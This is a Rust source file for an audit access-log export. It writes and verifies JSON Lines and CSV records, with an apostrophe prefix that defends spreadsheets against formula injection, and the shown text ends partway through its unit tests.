//! The export formats of the access log, written by the API and read back by
//! `sitrep access-log verify`: JSON Lines (one `AccessLogEntry` per line) and CSV.
//!
//! CSV (RFC 4180, `\n` line ends) has a header line with the column names below, then one
//! record per line. So that a file reads back to exactly the record that was hashed: an
//! absent value is an empty *unquoted* field; every text value (also times, UUIDs, hashes,
//! and the JSON arrays of `roles` and `object_ids`) is quoted, `"` doubled; integers are
//! bare. Times have six fractional digits.
//!
//! Spreadsheets read a cell that starts with `=`, `+`, `-`, `@`, tab or carriage return as
//! a formula, so a failed login as `=HYPERLINK(…)` would run in the auditor's spreadsheet.
//! A quoted value that starts with one of them, after any number of `'`, is written with
//! one more `'` in front (OWASP's CSV-injection defence; a spreadsheet shows the value as
//! text and hides that `'`), and readers drop that one `'` again: the rule is exact both
//! ways, so a file reads back to the record that was hashed.

use std::io::Read;

use chrono::{DateTime, Utc};
use sitrep_types::AccessLogEntry;
use uuid::Uuid;

use crate::chain::{OptText, Record, TextList, first_special, format_at, parse_hash_bytes};

#[cfg(test)]
mod reference;

pub const CSV_COLUMNS: [&str; 22] = [
    "seq",
    "at",
    "request_id",
    "actor_type",
    "actor_id",
    "actor_name",
    "organisation_id",
    "membership_id",
    "roles",
    "action",
    "object_type",
    "object_id",
    "object_revision",
    "object_ids",
    "tier",
    "tlp",
    "outcome",
    "reason",
    "http_status",
    "client_addr",
    "prev_hash",
    "hash",
];

/// One JSON Lines line, with its `\n`. A record that cannot be written is an error that
/// fails the export: an export never leaves a record out or writes an empty line for it.
pub fn jsonl_line(e: &AccessLogEntry) -> Result<String, serde_json::Error> {
    let mut line = serde_json::to_string(e)?;
    line.push('\n');
    Ok(line)
}

/// The CSV header line.
pub fn csv_header() -> String {
    let mut line = CSV_COLUMNS.join(",");
    line.push('\n');
    line
}

/// What makes a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a value is written with one more leading `'`: it starts with a formula
/// character once its leading `'`s are set aside. Counting the `'`s makes the rule exact
/// both ways: a value that itself starts `'=` is written `''=` and reads back as `'=`.
pub fn needs_defusing(s: &str) -> bool {
    s.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// A quoted CSV value as recorded: without the `'` [`needs_defusing`] added.
pub fn undefused(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if needs_defusing(s) => rest,
        _ => s,
    }
}

fn quoted(out: &mut String, s: &str) {
    out.push('"');
    if needs_defusing(s) {
        out.push('\'');
    }
    out.push_str(&s.replace('"', "\"\""));
    out.push('"');
}

/// One CSV line, with its `\n`; an error like [`jsonl_line`]'s.
pub fn csv_line(e: &AccessLogEntry) -> Result<String, serde_json::Error> {
    let roles = serde_json::to_string(&e.roles)?;
    let object_ids = e.object_ids.as_ref().map(serde_json::to_string).transpose()?;
    let mut out = String::with_capacity(512);
    let opt = |out: &mut String, v: Option<String>| {
        if let Some(v) = v {
            quoted(out, &v);
        }
    };
    let fields: [&dyn Fn(&mut String); 22] = [
        &|o| o.push_str(&e.seq.to_string()),
        &|o| quoted(o, &format_at(e.at)),
        &|o| quoted(o, &e.request_id),
        &|o| quoted(o, &e.actor_type),
        &|o| opt(o, e.actor_id.map(|u| u.to_string())),
        &|o| opt(o, e.actor_name.clone()),
        &|o| opt(o, e.organisation_id.map(|u| u.to_string())),
        &|o| opt(o, e.membership_id.map(|u| u.to_string())),
        &|o| quoted(o, &roles),
        &|o| quoted(o, &e.action),
        &|o| opt(o, e.object_type.clone()),
        &|o| opt(o, e.object_id.clone()),
        &|o| {
            if let Some(r) = e.object_revision {
                o.push_str(&r.to_string())
            }
        },
        &|o| opt(o, object_ids.clone()),
        &|o| opt(o, e.tier.clone()),
        &|o| opt(o, e.tlp.clone()),
        &|o| quoted(o, &e.outcome),
        &|o| opt(o, e.reason.clone()),
        &|o| o.push_str(&e.http_status.to_string()),
        &|o| opt(o, e.client_addr.clone()),
        &|o| quoted(o, &e.prev_hash),
        &|o| quoted(o, &e.hash),
    ];
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        f(&mut out);
    }
    out.push('\n');
    Ok(out)
}

/// Reading an export failed at `line`.
#[derive(Debug, thiserror::Error)]
#[error("line {line}: {message}")]
pub struct ReadError {
    pub line: u64,
    pub message: String,
}

// ---------------------------------------------------------------------------------------
// The fast reader used by `sitrep access-log verify`: records straight into a reused
// [`Record`], no allocation per record. It accepts exactly what the serde path above
// accepts (any key order, white space and escapes in JSON Lines; RFC 4180 quoting in
// CSV) and yields the same values; the unit tests below hold the two to each other.

/// Reads the records of a JSON Lines or CSV export, one at a time, into a [`Record`].
pub struct RecordReader<R> {
    input: R,
    buf: Vec<u8>,
    /// Start of the bytes not yet consumed.
    start: usize,
    /// End of the bytes read.
    end: usize,
    eof: bool,
    csv: bool,
    line: u64,
    parser: Parser,
}

/// The buffers the parsing of one record needs, reused from record to record.
#[derive(Debug, Default)]
pub struct Parser {
    scratch: String,
    tmp: String,
    fields: Vec<CsvField>,
}

impl Parser {
    /// Parses one record's text (without its line end; `crlf`: it ended at a `\n`, so a
    /// `\r` before it belongs to the line end) into `r`. `Ok(false)`: a blank JSON Lines
    /// line, no record.
    fn parse(&mut self, csv: bool, bytes: &[u8], crlf: bool, line: u64, r: &mut Record) -> Result<bool, ReadError> {
        let err = |message: String| ReadError { line, message };
        let text = record_text(bytes, crlf && csv).map_err(|m| err(m.into()))?;
        if csv {
            split_csv(text, &mut self.fields, &mut self.scratch)
                .and_then(|()| csv_record(text, &self.fields, &self.scratch, r, &mut self.tmp))
                .map_err(err)?;
            return Ok(true);
        }
        if text.as_bytes().first() != Some(&b'{') && text.trim().is_empty() {
            return Ok(false);
        }
        jsonl_record(text, r, &mut self.scratch).map_err(err)?;
        Ok(true)
    }
}

/// Whole records cut from an export by [`RecordReader::next_block`], to be parsed
/// elsewhere (on another thread) with [`Block::parse_each`].
#[derive(Debug, Default)]
pub struct Block {
    bytes: Vec<u8>,
    /// Each record: its range in `bytes`, whether it ended at a `\n`, its last line.
    records: Vec<(usize, usize, bool, u64)>,
    csv: bool,
    /// Reading stopped here (after the records before it).
    error: Option<ReadError>,
}

impl Block {
    /// The last block of the input: empty, or reading failed after its records.
    pub fn is_last(&self) -> bool {
        self.records.is_empty() || self.error.is_some()
    }

    /// Parses the records in turn into `r`, calling `each` after each; stops at the first
    /// that cannot be read, or with the error that ended the reading.
    pub fn parse_each(
        &self,
        parser: &mut Parser,
        r: &mut Record,
        mut each: impl FnMut(&Record),
    ) -> Result<(), ReadError> {
        for &(from, to, crlf, line) in &self.records {
            if parser.parse(self.csv, &self.bytes[from..to], crlf, line, r)? {
                each(r);
            }
        }
        match &self.error {
            Some(e) => Err(ReadError { line: e.line, message: e.message.clone() }),
            None => Ok(()),
        }
    }
}

#[derive(Debug, Clone, Copy)]
struct CsvField {
    quoted: bool,
    /// In the record itself, or (when it had doubled quotes) in the scratch buffer.
    unescaped: bool,
    from: usize,
    to: usize,
}

impl<R: Read> RecordReader<R> {
    /// Detects the format from the first line (a CSV header starts with `seq,`) and checks
    /// the CSV header.
    pub fn new(input: R) -> Result<RecordReader<R>, ReadError> {
        let mut reader = RecordReader {
            input,
            buf: vec![0; 1 << 20],
            start: 0,
            end: 0,
            eof: false,
            csv: false,
            line: 0,
            parser: Parser::default(),
        };
        while reader.end < 4 && !reader.eof {
            reader.fill()?;
        }
        reader.csv = reader.buf[..reader.end].starts_with(b"seq,");
        if reader.csv {
            let header = match reader.next_span()? {
                Some((from, to)) => {
                    let text = record_text(&reader.buf[from..to], to < reader.end).map_err(|m| reader.err(m))?;
                    let mut fields = Vec::new();
                    let mut scratch = String::new();
                    split_csv(text, &mut fields, &mut scratch).map_err(|m| reader.err(m))?;
                    fields.iter().map(|f| f.get(text, &scratch).to_owned()).collect::<Vec<_>>()
                }
                None => Vec::new(),
            };
            if header != CSV_COLUMNS {
                return Err(ReadError { line: 1, message: "not a Sitrep access-log CSV header".into() });
            }
        }
        Ok(reader)
    }

    fn err(&self, message: impl Into<String>) -> ReadError {
        ReadError { line: self.line, message: message.into() }
    }

    /// Reads more input after `end`, first moving what is unconsumed to the front (or
    /// growing the buffer when one record fills it).
    fn fill(&mut self) -> Result<(), ReadError> {
        if self.start > 0 {
            self.buf.copy_within(self.start..self.end, 0);
            self.end -= self.start;
            self.start = 0;
        }
        if self.end == self.buf.len() {
            self.buf.resize(self.buf.len() * 2, 0);
        }
        loop {
            match self.input.read(&mut self.buf[self.end..]) {
                Ok(0) => {
                    self.eof = true;
                    return Ok(());
                }
                Ok(n) => {
                    self.end += n;
                    return Ok(());
                }
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(e) => return Err(ReadError { line: self.line + 1, message: e.to_string() }),
            }
        }
    }

    /// The bytes of the next record (without its line end), as a range of `buf`; `None`
    /// at the end of the input. A CSV record ends at a line end outside quotes: after an
    /// even number of `"` (a doubled `""` counts twice, so the parity is the quoting).
    fn next_span(&mut self) -> Result<Option<(usize, usize)>, ReadError> {
        fn odd_quotes(b: &[u8]) -> bool {
            b.iter().filter(|&&c| c == b'"').count() % 2 == 1
        }
        // Scan position, relative to `start` (which `fill` may move).
        let mut scanned = 0;
        let mut in_quotes = false;
        let mut lines = 0;
        loop {
            let from = self.start + scanned;
            match memchr::memchr(b'\n', &self.buf[from..self.end]) {
                Some(i) => {
                    if self.csv && odd_quotes(&self.buf[from..from + i]) {
                        in_quotes = !in_quotes;
                    }
                    if in_quotes {
                        lines += 1;
                        scanned += i + 1;
                        continue;
                    }
                    let span = (self.start, from + i);
                    self.start = from + i + 1;
                    self.line += lines + 1;
                    return Ok(Some(span));
                }
                None if self.eof => {
                    if self.start == self.end {
                        return Ok(None);
                    }
                    self.line += lines + 1;
                    if self.csv && (in_quotes != odd_quotes(&self.buf[from..self.end])) {
                        return Err(self.err("unterminated quoted field"));
                    }
                    let span = (self.start, self.end);
                    self.start = self.end;
                    return Ok(Some(span));
                }
                None => {
                    if self.csv && odd_quotes(&self.buf[from..self.end]) {
                        in_quotes = !in_quotes;
                    }
                    scanned = self.end - self.start;
                    self.fill()?;
                }
            }
        }
    }

    /// Reads the next record into `r`; `false` at the end.
    pub fn next_record(&mut self, r: &mut Record) -> Result<bool, ReadError> {
        loop {
            let Some((from, to)) = self.next_span()? else {
                return Ok(false);
            };
            if self.parser.parse(self.csv, &self.buf[from..to], to < self.end, self.line, r)? {
                return Ok(true);
            }
        }
    }

    /// Moves up to `max` whole records, unparsed, into `block` (cleared first). An empty
    /// block: the end. A failure to read is kept in the block, after the records before it.
    pub fn next_block(&mut self, block: &mut Block, max: usize) {
        block.bytes.clear();
        block.records.clear();
        block.csv = self.csv;
        block.error = None;
        while block.records.len() < max {
            match self.next_span() {
                Ok(Some((from, to))) => {
                    let start = block.bytes.len();
                    block.bytes.extend_from_slice(&self.buf[from..to]);
                    block.records.push((start, block.bytes.len(), to < self.end, self.line));
                }
                Ok(None) => break,
                Err(e) => {
                    block.error = Some(e);
                    break;
                }
            }
        }
    }
}

/// The text of a record; `crlf`: it ended at a `\n`, so a `\r` before it is part of the
/// line end.
fn record_text(mut bytes: &[u8], crlf: bool) -> Result<&str, &'static str> {
    if crlf && bytes.last() == Some(&b'\r') {
        bytes = &bytes[..bytes.len() - 1];
    }
    std::str::from_utf8(bytes).map_err(|_| "stream did not contain valid UTF-8")
}

impl CsvField {
    fn get<'a>(&self, record: &'a str, scratch: &'a str) -> &'a str {
        let source = if self.unescaped { scratch } else { record };
        source.get(self.from..self.to).unwrap_or_default()
    }
}

/// Splits one CSV record into its fields (RFC 4180; `""` inside quotes is one `"`).
fn split_csv(text: &str, fields: &mut Vec<CsvField>, scratch: &mut String) -> Result<(), String> {
    fields.clear();
    scratch.clear();
    let b = text.as_bytes();
    let mut i = 0;
    loop {
        if b.get(i) == Some(&b'"') {
            // Quoted: up to the closing quote; a doubled quote is one quote.
            let mut from = i + 1;
            let mut unescaped: Option<usize> = None;
            let to;
            loop {
                let Some(q) = memchr::memchr(b'"', &b[from..]) else {
                    return Err("unterminated quoted field".into());
                };
                if b.get(from + q + 1) == Some(&b'"') {
                    unescaped.get_or_insert(scratch.len());
                    scratch.push_str(text.get(from..from + q + 1).unwrap_or_default());
                    from += q + 2;
                    continue;
                }
                match unescaped {
                    Some(start) => {
                        scratch.push_str(text.get(from..from + q).unwrap_or_default());
                        fields.push(CsvField { quoted: true, unescaped: true, from: start, to: scratch.len() });
                    }
                    None => fields.push(CsvField { quoted: true, unescaped: false, from: i + 1, to: from + q }),
                }
                to = from + q + 1;
                break;
            }
            match b.get(to) {
                None => return Ok(()),
                Some(b',') => i = to + 1,
                Some(b'"') => return Err("a quote inside an unquoted field".into()),
                Some(_) => return Err("text after a closing quote".into()),
            }
        } else {
            let end = memchr::memchr2(b',', b'"', &b[i..]).map_or(b.len(), |p| i + p);
            fields.push(CsvField { quoted: false, unescaped: false, from: i, to: end });
            match b.get(end) {
                None => return Ok(()),
                Some(b',') => i = end + 1,
                Some(_) => return Err("a quote inside an unquoted field".into()),
            }
        }
    }
}

fn csv_record(text: &str, f: &[CsvField], scratch: &str, r: &mut Record, tmp: &mut String) -> Result<(), String> {
    if f.len() != CSV_COLUMNS.len() {
        return Err(format!("{} fields, expected {}", f.len(), CSV_COLUMNS.len()));
    }
    let bad = |col: usize| format!("bad value in column {}", CSV_COLUMNS[col]);
    let text_of = |col: usize| -> Result<Option<&str>, String> {
        let field = &f[col];
        let v = field.get(text, scratch);
        match (field.quoted, v.is_empty()) {
            (true, _) => Ok(Some(undefused(v))),
            (false, true) => Ok(None),
            (false, false) => Err(bad(col)),
        }
    };
    let req = |col: usize| text_of(col)?.ok_or_else(|| bad(col));
    let int = |col: usize| -> Result<Option<i64>, String> {
        let field = &f[col];
        if field.quoted {
            return Err(bad(col));
        }
        let v = field.get(text, scratch);
        if v.is_empty() { Ok(None) } else { v.parse().map(Some).map_err(|_| bad(col)) }
    };
    let uuid = |col: usize| -> Result<Option<Uuid>, String> {
        text_of(col)?.map(|s| Uuid::try_parse(s).map_err(|_| bad(col))).transpose()
    };
    let opt = |col: usize, slot: &mut OptText| -> Result<(), String> {
        slot.set(text_of(col)?);
        Ok(())
    };
    let at = req(1)?;
    r.at = fast_at(at.as_bytes())
        .or_else(|| DateTime::parse_from_rfc3339(at).ok().map(|t| t.with_timezone(&Utc)))
        .ok_or_else(|| bad(1))?;
    r.seq = int(0)?.ok_or_else(|| bad(0))?;
    set(&mut r.request_id, req(2)?);
    set(&mut r.actor_type, req(3)?);
    r.actor_id = uuid(4)?;
    opt(5, &mut r.actor_name)?;
    r.organisation_id = uuid(6)?;
    r.membership_id = uuid(7)?;
    r.roles.clear();
    Json::new(req(8)?).whole(|j| j.text_array(&mut r.roles)).map_err(|_| bad(8))?;
    set(&mut r.action, req(9)?);
    opt(10, &mut r.object_type)?;
    opt(11, &mut r.object_id)?;
    r.object_revision = int(12)?.map(i32::try_from).transpose().map_err(|_| bad(12))?;
    r.object_ids.clear();
    r.has_object_ids = false;
    if let Some(ids) = text_of(13)? {
        Json::new(ids).whole(|j| j.uuid_array(&mut r.object_ids, tmp)).map_err(|_| bad(13))?;
        r.has_object_ids = true;
    }
    opt(14, &mut r.tier)?;
    opt(15, &mut r.tlp)?;
    set(&mut r.outcome, req(16)?);
    opt(17, &mut r.reason)?;
    r.http_status = int(18)?.and_then(|v| i16::try_from(v).ok()).ok_or_else(|| bad(18))?;
    opt(19, &mut r.client_addr)?;
    r.prev_hash = parse_hash_bytes(req(20)?.as_bytes());
    r.hash = parse_hash_bytes(req(21)?.as_bytes());
    Ok(())
}

fn set(slot: &mut String, s: &str) {
    slot.clear();
    slot.push_str(s);
}

/// `YYYY-MM-DDTHH:MM:SS[.fraction]Z`, the form the exports write, without the general
/// parser; `None` for anything else (the caller then uses chrono's parser, so what is
/// accepted does not change).
pub fn fast_at(s: &[u8]) -> Option<DateTime<Utc>> {
    fn num(s: &[u8]) -> Option<u32> {
        s.iter().try_fold(0u32, |n, &c| c.is_ascii_digit().then(|| n * 10 + u32::from(c - b'0')))
    }
    if s.len() < 20 || s[4] != b'-' || s[7] != b'-' || s[10] != b'T' || s[13] != b':' || s[16] != b':' {
        return None;
    }
    if s.last() != Some(&b'Z') {
        return None;
    }
    let year = i32::try_from(num(&s[0..4])?).ok()?;
    let (month, day, hour, minute, second) =
        (num(&s[5..7])?, num(&s[8..10])?, num(&s[11..13])?, num(&s[14..16])?, num(&s[17..19])?);
    let nanos = match &s[19..s.len() - 1] {
        [] => 0,
        [b'.', digits @ ..] if (1..=9).contains(&digits.len()) => {
            num(digits)? * 10u32.pow(9 - u32::try_from(digits.len()).ok()?)
        }
        _ => return None,
    };
    if second > 59 {
        return None;
    }
    Some(chrono::NaiveDate::from_ymd_opt(year, month, day)?.and_hms_nano_opt(hour, minute, second, nanos)?.and_utc())
}

/// The fields of a JSON Lines record, in [`AccessLogEntry`] order; a bit each.
const JSON_FIELDS: [&str; 22] = CSV_COLUMNS;
/// The fields that must be present (the others default to null).
const REQUIRED: u32 = bit(0) | bit(1) | bit(2) | bit(3) | bit(8) | bit(9) | bit(16) | bit(18) | bit(20) | bit(21);

const fn bit(i: usize) -> u32 {
    1 << i
}

/// One JSON Lines record (one `AccessLogEntry` object) into `r`.
fn jsonl_record(text: &str, r: &mut Record, scratch: &mut String) -> Result<(), String> {
    let mut j = Json::new(text);
    let mut seen = 0u32;
    r.actor_id = None;
    r.actor_name.clear();
    r.organisation_id = None;
    r.membership_id = None;
    r.object_type.clear();
    r.object_id.clear();
    r.object_revision = None;
    r.object_ids.clear();
    r.has_object_ids = false;
    r.tier.clear();
    r.tlp.clear();
    r.reason.clear();
    r.client_addr.clear();
    j.ws();
    j.eat(b'{')?;
    j.ws();
    if j.peek() == Some(b'}') {
        j.i += 1;
    } else {
        loop {
            j.ws();
            let index = j.key(seen.count_ones() as usize, scratch)?;
            if seen & bit(index) != 0 {
                return Err(format!("duplicate field `{}`", JSON_FIELDS[index]));
            }
            seen |= bit(index);
            j.ws();
            j.eat(b':')?;
            j.ws();
            j.field(index, r, scratch)?;
            j.ws();
            match j.next() {
                Some(b',') => {}
                Some(b'}') => break,
                _ => return Err(format!("expected `,` or `}}` at column {}", j.i)),
            }
        }
    }
    j.ws();
    if j.i != j.b.len() {
        return Err(format!("trailing characters at column {}", j.i + 1));
    }
    if let Some(missing) = (0..JSON_FIELDS.len()).find(|&i| REQUIRED & bit(i) != 0 && seen & bit(i) == 0) {
        return Err(format!("missing field `{}`", JSON_FIELDS[missing]));
    }
    Ok(())
}

/// A small JSON reader for the values of a record: strings, integers, null and arrays of
/// strings. Anything else is an error, as it is for serde with `AccessLogEntry`.
struct Json<'a> {
    s: &'a str,
    b: &'a [u8],
    i: usize,
}

impl<'a> Json<'a> {
    fn new(s: &'a str) -> Json<'a> {
        Json { s, b: s.as_bytes(), i: 0 }
    }

    /// Runs `f` on the whole text: white space around it, nothing after it.
    fn whole(mut self, f: impl FnOnce(&mut Json<'a>) -> Result<(), String>) -> Result<(), String> {
        self.ws();
        f(&mut self)?;
        self.ws();
        if self.i == self.b.len() { Ok(()) } else { Err("trailing characters".into()) }
    }

    fn ws(&mut self) {
        while matches!(self.b.get(self.i), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.i += 1;
        }
    }

    fn peek(&self) -> Option<u8> {
        self.b.get(self.i).copied()
    }

    fn next(&mut self) -> Option<u8> {
        let c = self.peek();
        self.i += 1;
        c
    }

    fn eat(&mut self, c: u8) -> Result<(), String> {
        if self.next() == Some(c) { Ok(()) } else { Err(format!("expected `{}` at column {}", c as char, self.i)) }
    }

    fn null(&mut self) -> Result<bool, String> {
        if self.peek() != Some(b'n') {
            return Ok(false);
        }
        if self.b[self.i..].starts_with(b"null") {
            self.i += 4;
            Ok(true)
        } else {
            Err(format!("expected `null` at column {}", self.i + 1))
        }
    }

    /// A key, as its index in `JSON_FIELDS` (`expected` is tried first: the fields come
    /// in order).
    fn key(&mut self, expected: usize, scratch: &mut String) -> Result<usize, String> {
        if let Some(name) = JSON_FIELDS.get(expected) {
            let name = name.as_bytes();
            let end = self.i + 1 + name.len();
            if self.b.get(self.i) == Some(&b'"')
                && self.b.get(self.i + 1..end) == Some(name)
                && self.b.get(end) == Some(&b'"')
            {
                self.i = end + 1;
                return Ok(expected);
            }
        }
        self.string(scratch)?;
        if JSON_FIELDS.get(expected).is_some_and(|k| *k == scratch.as_str()) {
            return Ok(expected);
        }
        JSON_FIELDS.iter().position(|k| *k == scratch.as_str()).ok_or_else(|| format!("unknown field `{scratch}`"))
    }

    /// A string into `out` (cleared first), escapes decoded.
    fn string(&mut self, out: &mut String) -> Result<(), String> {
        out.clear();
        self.append_string(out)
    }

    /// A string appended to `out`, escapes decoded.
    fn append_string(&mut self, out: &mut String) -> Result<(), String> {
        self.eat(b'"').map_err(|_| format!("expected a string at column {}", self.i))?;
        let b = self.b;
        loop {
            let rest = &b[self.i..];
            let Some(p) = first_special(rest) else {
                return Err("end of line inside a string".into());
            };
            out.push_str(self.s.get(self.i..self.i + p).unwrap_or_default());
            self.i += p + 1;
            match rest[p] {
                b'"' => return Ok(()),
                b'\\' => self.escape(out)?,
                _ => return Err(format!("control character in a string at column {}", self.i)),
            }
        }
    }

    fn escape(&mut self, out: &mut String) -> Result<(), String> {
        let c = match self.next() {
            Some(b'"') => '"',
            Some(b'\\') => '\\',
            Some(b'/') => '/',
            Some(b'b') => '\u{8}',
            Some(b'f') => '\u{c}',
            Some(b'n') => '\n',
            Some(b'r') => '\r',
            Some(b't') => '\t',
            Some(b'u') => {
                let hi = self.hex4()?;
                let code = if (0xD800..0xDC00).contains(&hi) {
                    if self.next() != Some(b'\\') || self.next() != Some(b'u') {
                        return Err("lone leading surrogate in hex escape".into());
                    }
                    let lo = self.hex4()?;
                    if !(0xDC00..0xE000).contains(&lo) {
                        return Err("invalid low surrogate in hex escape".into());
                    }
                    0x10000 + ((hi - 0xD800) << 10) + (lo - 0xDC00)
                } else {
                    hi
                };
                char::from_u32(code).ok_or("invalid unicode code point")?
            }
            _ => return Err(format!("invalid escape at column {}", self.i)),
        };
        out.push(c);
        Ok(())
    }

    fn hex4(&mut self) -> Result<u32, String> {
        let digits = self.b.get(self.i..self.i + 4).ok_or("invalid escape")?;
        let text = std::str::from_utf8(digits).map_err(|_| "invalid escape")?;
        let v = u32::from_str_radix(text, 16).map_err(|_| "invalid escape")?;
        if !digits.iter().all(u8::is_ascii_hexdigit) {
            return Err("invalid escape".into());
        }
        self.i += 4;
        Ok(v)
    }

    /// An integer (JSON grammar: no leading zeros, no `+`; a fraction or exponent is a
    /// floating-point number, which an integer field refuses).
    fn int(&mut self) -> Result<i64, String> {
        let start = self.i;
        if self.peek() == Some(b'-') {
            self.i += 1;
        }
        let digits = self.i;
        while self.peek().is_some_and(|c| c.is_ascii_digit()) {
            self.i += 1;
        }
        let n = self.i - digits;
        if n == 0 || (n > 1 && self.b[digits] == b'0') {
            return Err(format!("invalid number at column {}", start + 1));
        }
        if matches!(self.peek(), Some(b'.' | b'e' | b'E')) {
            return Err(format!("invalid type: floating point at column {}, expected an integer", start + 1));
        }
        self.s
            .get(start..self.i)
            .and_then(|t| t.parse().ok())
            .ok_or_else(|| format!("integer out of range at column {}", start + 1))
    }

    fn opt_text(&mut self, slot: &mut OptText) -> Result<(), String> {
        if self.null()? {
            slot.clear();
            Ok(())
        } else {
            self.string(slot.set_empty())
        }
    }

    fn uuid(&mut self, scratch: &mut String) -> Result<Uuid, String> {
        // The usual form, hyphenated and without escapes: parsed where it lies.
        if let (Some(b'"'), Some(text), Some(b'"')) =
            (self.b.get(self.i), self.b.get(self.i + 1..self.i + 37), self.b.get(self.i + 37))
            && !text.contains(&b'\\')
            && let Ok(id) = Uuid::try_parse_ascii(text)
        {
            self.i += 38;
            return Ok(id);
        }
        self.string(scratch)?;
        Uuid::try_parse(scratch).map_err(|e| e.to_string())
    }

    fn opt_uuid(&mut self, scratch: &mut String) -> Result<Option<Uuid>, String> {
        if self.null()? { Ok(None) } else { self.uuid(scratch).map(Some) }
    }

    fn array(&mut self, mut item: impl FnMut(&mut Json<'a>) -> Result<(), String>) -> Result<(), String> {
        self.eat(b'[').map_err(|_| format!("expected an array at column {}", self.i))?;
        self.ws();
        if self.peek() == Some(b']') {
            self.i += 1;
            return Ok(());
        }
        loop {
            self.ws();
            item(self)?;
            self.ws();
            match self.next() {
                Some(b',') => {}
                Some(b']') => return Ok(()),
                _ => return Err(format!("expected `,` or `]` at column {}", self.i)),
            }
        }
    }

    fn text_array(&mut self, list: &mut TextList) -> Result<(), String> {
        self.array(|j| {
            j.append_string(list.buf())?;
            list.end_item();
            Ok(())
        })
    }

    fn uuid_array(&mut self, ids: &mut Vec<Uuid>, scratch: &mut String) -> Result<(), String> {
        self.array(|j| {
            ids.push(j.uuid(scratch)?);
            Ok(())
        })
    }

    /// The value of field `index` (in `JSON_FIELDS`) into `r`.
    fn field(&mut self, index: usize, r: &mut Record, scratch: &mut String) -> Result<(), String> {
        let name = JSON_FIELDS[index];
        let required_null = || format!("invalid type: null, expected a value for `{name}`");
        match index {
            0 => r.seq = self.int()?,
            1 => {
                self.string(scratch)?;
                r.at = fast_at(scratch.as_bytes())
                    .or_else(|| scratch.parse::<DateTime<chrono::FixedOffset>>().ok().map(|t| t.with_timezone(&Utc)))
                    .ok_or_else(|| format!("bad time `{scratch}`"))?;
            }
            2 => self.string(&mut r.request_id)?,
            3 => self.string(&mut r.actor_type)?,
            4 => r.actor_id = self.opt_uuid(scratch)?,
            5 => self.opt_text(&mut r.actor_name)?,
            6 => r.organisation_id = self.opt_uuid(scratch)?,
            7 => r.membership_id = self.opt_uuid(scratch)?,
            8 => {
                r.roles.clear();
                if self.null()? {
                    return Err(required_null());
                }
                self.text_array(&mut r.roles)?;
            }
            9 => self.string(&mut r.action)?,
            10 => self.opt_text(&mut r.object_type)?,
            11 => self.opt_text(&mut r.object_id)?,
            12 => {
                r.object_revision = if self.null()? {
                    None
                } else {
                    Some(i32::try_from(self.int()?).map_err(|_| "object_revision out of range")?)
                }
            }
            13 => {
                r.object_ids.clear();
                r.has_object_ids = !self.null()?;
                if r.has_object_ids {
                    self.uuid_array(&mut r.object_ids, scratch)?;
                }
            }
            14 => self.opt_text(&mut r.tier)?,
            15 => self.opt_text(&mut r.tlp)?,
            16 => self.string(&mut r.outcome)?,
            17 => self.opt_text(&mut r.reason)?,
            18 => r.http_status = i16::try_from(self.int()?).map_err(|_| "http_status out of range")?,
            19 => self.opt_text(&mut r.client_addr)?,
            20 | 21 => {
                self.string(scratch)?;
                let hash = parse_hash_bytes(scratch.as_bytes());
                if index == 20 {
                    r.prev_hash = hash;
                } else {
                    r.hash = hash;
                }
            }
            _ => return Err(required_null()),
        }
        Ok(())
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::reference::ExportReader;
    use super::*;

    fn sample() -> AccessLogEntry {
        AccessLogEntry {
            seq: 7,
            at: DateTime::parse_from_rfc3339("2026-11-23T12:00:00.000010Z").unwrap().to_utc(),
            request_id: "r".into(),
            actor_type: "user".into(),
            actor_id: Some(Uuid::from_u128(5)),
            actor_name: Some("a,\"b\"\nc".into()),
            organisation_id: None,
            membership_id: None,
            roles: vec![],
            action: "me.view".into(),
            object_type: Some(String::new()),
            object_id: None,
            object_revision: Some(3),
            object_ids: Some(vec![Uuid::from_u128(1)]),
            tier: None,
            tlp: None,
            outcome: "allowed".into(),
            reason: None,
            http_status: 200,
            client_addr: Some("::1".into()),
            prev_hash: "00".into(),
            hash: "11".into(),
        }
    }

    #[test]
    fn both_formats_read_back_exactly_what_was_written() {
        let e = sample();
        let mut other = sample();
        other.object_type = None;
        other.object_revision = None;
        other.object_ids = None;
        for text in [
            format!("{}{}", jsonl_line(&e).unwrap(), jsonl_line(&other).unwrap()),
            format!("{}{}{}", csv_header(), csv_line(&e).unwrap(), csv_line(&other).unwrap()),
        ] {
            let mut r = ExportReader::new(text.as_bytes()).unwrap();
            assert_eq!(r.next_entry().unwrap(), Some(e.clone()));
            assert_eq!(r.next_entry().unwrap(), Some(other.clone()));
            assert_eq!(r.next_entry().unwrap(), None);
        }
    }

    fn fast_records(text: &str) -> Result<Vec<Record>, ReadError> {
        let mut reader = RecordReader::new(text.as_bytes())?;
        let mut out = Vec::new();
        let mut r = Record::default();
        while reader.next_record(&mut r)? {
            out.push(r.clone());
        }
        Ok(out)
    }

    fn slow_records(text: &str) -> Result<Vec<Record>, ReadError> {
        let mut reader = ExportReader::new(text.as_bytes())?;
        let mut out = Vec::new();
        while let Some(e) = reader.next_entry()? {
            out.push(Record::from_entry(&e));
        }
        Ok(out)
    }

    #[test]
    fn the_fast_reader_reads_both_formats_as_the_serde_reader_does() {
        let e = sample();
        let mut other = sample();
        other.object_type = None;
        other.object_revision = None;
        other.object_ids = None;
        other.roles = vec!["a\"b".into(), "c,d".into(), "ä\u{1}".into()];
        other.at = DateTime::parse_from_rfc3339("2026-11-23T12:00:00Z").unwrap().to_utc();
        other.actor_name = Some("line\r\nbreak\rcr".into());
        other.prev_hash = "AB".repeat(32);
        other.hash = "0f".repeat(32);
        for text in [
            format!("{}{}", jsonl_line(&e).unwrap(), jsonl_line(&other).unwrap()),
            format!("{}\n  \n{}", jsonl_line(&e).unwrap(), jsonl_line(&other).unwrap().trim_end()),
            format!("{}{}{}", csv_header(), csv_line(&e).unwrap(), csv_line(&other).unwrap()),
            format!("{}{}{}", csv_header(), csv_line(&e).unwrap(), csv_line(&other).unwrap().trim_end()),
            format!(
                "{}{}\r\n{}\r\n",
                csv_header(),
